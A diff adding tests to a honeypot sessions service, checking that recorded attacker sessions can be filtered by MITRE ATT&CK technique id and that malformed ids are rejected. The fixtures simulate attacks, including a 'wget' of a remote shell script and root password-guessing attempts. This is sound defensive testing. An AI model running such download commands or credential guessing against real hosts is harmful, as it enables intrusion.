@@ -18,6 +18,7 @@ interface SessionItem {
   live: boolean;
   startedAt: string;
   srcIp: string;
+  techniques: string[];
 }
 
 describe(DecoySessionsService.name, () => {
@@ -103,5 +104,67 @@ describe(DecoySessionsService.name, () => {
     const uname = events.find((e) => e.payload.input === 'uname -a')!;
     expect(uname.hits.flatMap((h) => h.techniques)).toContain('T1082');
     expect(events[0]!.hits).toEqual([]);
+  });
+
+  it('filters by the technique the classifier found, a parent id finding its sub-techniques, before the page is cut', async () => {
+    const hunting = await sensorSecret(d, 'h-sensor');
+    await createWorld(d, 'hunting', 'h-sensor');
+    const e = (session: string, at: number, body: Parameters<typeof event>[4], ip: string) => ({
+      ...event('h-sensor', 'hunting', session, at, body),
+      src: { ip, port: 40_000 },
+    });
+    const sessions = [
+      ['fetch-old', 100, '198.51.100.1'],
+      ['fetch-new', 200, '198.51.100.2'],
+    ].flatMap(([session, at, ip]) => [
+      e(String(session), Number(at), { kind: 'connect' }, String(ip)),
+      e(String(session), Number(at) + 1, { kind: 'command', input: 'wget http://198.51.100.4/x.sh' }, String(ip)),
+      e(String(session), Number(at) + 2, { kind: 'download', url: 'http://198.51.100.4/x.sh' }, String(ip)),
+      e(String(session), Number(at) + 3, { kind: 'disconnect', duration: 3 }, String(ip)),
+    ]);
+    // The newest sessions reach neither T1105 nor T1082: a filter applied after the page is cut would show nothing.
+    const guesser = '198.51.100.3';
+    sessions.push(
+      e('guess', 300, { kind: 'connect' }, guesser),
+      e('guess', 301, { kind: 'auth', username: 'root', password: 'admin', success: false }, guesser),
+      e('guess', 302, { kind: 'disconnect', duration: 2 }, guesser),
+      e('guess-2', 400, { kind: 'connect' }, guesser),
+      e('guess-2', 401, { kind: 'auth', username: 'root', password: 'toor', success: false }, guesser),
+      e('guess-2', 402, { kind: 'disconnect', duration: 2 }, guesser),
+    );
+    expect((await postEvents(d, bearer(hunting), 'h-sensor', sessions)).statusCode).toBe(200);
+    await d.hub.services.decoyAnalysis.drain();
+    const names = async (query: string) => (await list(`?world=hunting&${query}`)).items.map((s) => s.session);
+
+    expect(await names('technique=T1105')).toEqual(['fetch-new', 'fetch-old']);
+    expect(await names('technique=T1110')).toEqual(['guess-2', 'guess']);
+    expect(await names('technique=T1110.001')).toEqual(['guess-2', 'guess']);
+    expect(await names('technique=T1110.003')).toEqual([]);
+    expect(await names('technique=T1082')).toEqual([]);
+    expect(await names(`technique=T1105&src=198.51.100.1`)).toEqual(['fetch-old']);
+    expect(await names(`technique=T1110&src=198.51.100.1`)).toEqual([]);
+    expect((await list('?world=hunting&technique=T1110')).items.every((s) => s.techniques.includes('T1110.001'))).toBe(
+      true,
+    );
+
+    const first = await list('?world=hunting&technique=T1105&limit=1');
+    expect(first.items.map((s) => s.session)).toEqual(['fetch-new']);
+    const second = await list(`?world=hunting&technique=T1105&limit=1&cursor=${first.nextCursor}`);
+    expect(second.items.map((s) => s.session)).toEqual(['fetch-old']);
+    expect(second.nextCursor).toBeNull();
+  });
+
+  it('refuses a technique that is not an ATT&CK id, saying what it expects', async () => {
+    for (const technique of ['T11', 't1110', 'T1110.%', 'T1110.1', 'T1110%25']) {
+      const response = await d.hub.app.inject({
+        url: `${P}/decoy/sessions?technique=${technique}`,
+        headers: d.analystA,
+      });
+      expect(response.statusCode, technique).toBe(400);
+      expect(response.json().error).toMatchObject({
+        code: 'VALIDATION_FAILED',
+        fields: [{ path: 'querystring.technique', message: 'an ATT&CK technique id such as T1110 or T1110.001' }],
+      });
+    }
   });
 });
